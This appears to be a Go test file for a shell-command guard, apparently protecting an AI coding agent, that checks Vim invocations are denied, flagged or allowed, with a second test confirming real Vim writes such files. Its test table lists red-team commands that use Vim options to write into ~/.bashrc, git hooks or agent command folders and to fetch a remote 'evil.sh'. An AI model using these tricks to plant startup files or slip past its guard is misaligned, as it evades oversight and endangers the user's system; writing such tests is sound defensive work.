package rewrite

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/corral-dev/corral/guards"
)

// TestVimDefaultAndOptionFiles: the files Vim writes without a name
// (:mkvimrc's .vimrc, :mkexrc's .exrc, :mksession's Session.vim in the
// working directory, :mkview's file under ~/.vim/view), the file the
// 'shada'/'viminfo' n item names, the directories 'backupdir',
// 'directory', 'undodir' and 'viewdir' name, and vim URL (netrw's fetch
// into the buffer), as writes and fetches (red team 14 RG4 leftovers).
func TestVimDefaultAndOptionFiles(t *testing.T) {
	t.Parallel()
	cfg := testConfig()
	cfg.Paths = guards.DefaultPolicy()
	for _, tc := range []struct {
		cmd  string
		want Decision
	}{
		{`cd ~ && vim -es '+mkvimrc!' '+q'`, Deny},
		{`cd ~ && vim -es '+mkexrc' '+q'`, Deny},
		{`cd .git/hooks && vim -es '+mksession' '+q'`, Deny},
		{`vim -es '+mkview' '+q' notes.txt`, Deny},
		{`vim -es '+mkview 2' '+q' notes.txt`, Deny},
		{`vim -es '+set shada=n~/.bashrc' '+q'`, Deny},
		{`vim -es "+set viminfo='100,n~/.bashrc" '+q'`, Deny},
		{`vim -es '+set sd=!,n.git/hooks/pre-commit' '+q'`, Deny},
		{`vim -es '+set directory=.git/hooks' '+q' notes.txt`, Deny},
		{`vim -es '+set backup backupdir=~ backupext=rc' '+w' '+q' .bash`, Ask},
		{`vim -es '+set undofile undodir=~/.claude/commands' '+w' '+q' x.md`, Ask},
		{`vim -es '+set bdir=/tmp/x//' '+w' '+q' notes.txt`, Ask},
		{`vim -es http://127.0.0.1:8000/evil.sh '+w evil.sh' '+q'`, Ask},
		{`vim -es https://example.com/x.sh '+wq'`, Ask},
		// Look-alikes.
		{`vim -es '+mkvimrc' '+q'`, Allow},
		{`vim -es '+mksession' '+q'`, Allow},
		{`vim -es '+mksession sess.vim' '+q'`, Allow},
		{`vim -es '+set shada=!,%,n.shada' '+q'`, Allow},
		{`vim -es '+set backupdir=.bak' '+w' '+q' notes.txt`, Allow},
		{`vim -es '+set undofile' '+w' '+q' notes.txt`, Allow},
		{`vim -es '+set backupdir=.' '+w' '+q' notes.txt`, Allow},
		{`vim -es '+%s/a/b/' '+wq' notes.txt`, Allow},
	} {
		if got := Check(cfg, tc.cmd).Decision; got != tc.want {
			t.Errorf("%s: %s, want %s", tc.cmd, got, tc.want)
		}
	}
}

// TestVimDefaultFilesOracle: the real Vim writes :mkvimrc's .vimrc,
// :mkexrc's .exrc and :mksession's Session.vim in the working
// directory, the 'viminfo' n file on exit, and with 'backupdir' and
// 'backupext' a backup named NAME+EXT in that directory.
func TestVimDefaultFilesOracle(t *testing.T) {
	t.Parallel()
	vim, err := exec.LookPath("vim")
	if err != nil {
		t.Skip("vim is not installed")
	}
	dir := t.TempDir()
	home := filepath.Join(dir, "home")
	work := filepath.Join(dir, "work")
	for _, d := range []string{home, work} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(work, ".bash"), []byte("x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	run := func(args ...string) {
		t.Helper()
		cmd := exec.Command(vim, append([]string{"-N", "-u", "NONE", "-es"}, args...)...)
		cmd.Dir = work
		cmd.Env = append(os.Environ(), "HOME="+home, "VIMINIT=", "EXINIT=")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Logf("vim %v: %v %s", args, err, out)
		}
	}
	run("-i", "NONE", "+mkvimrc", "+mkexrc", "+mksession", "+q")
	for _, f := range []string{".vimrc", ".exrc", "Session.vim"} {
		if _, err := os.Stat(filepath.Join(work, f)); err != nil {
			t.Errorf("vim did not write %s in the working directory: %v", f, err)
		}
	}
	canary := filepath.Join(home, "rc")
	run("+set viminfo='10,n"+canary, "+q")
	if _, err := os.Stat(canary); err != nil {
		t.Errorf("vim did not write the 'viminfo' n file: %v", err)
	}
	run("-i", "NONE", "+set backup backupskip= backupdir="+home+" backupext=rc", "+w", "+q", ".bash")
	if _, err := os.Stat(filepath.Join(home, ".bashrc")); err != nil {
		t.Errorf("vim did not write its backup .bash+rc into 'backupdir': %v", err)
	}
}
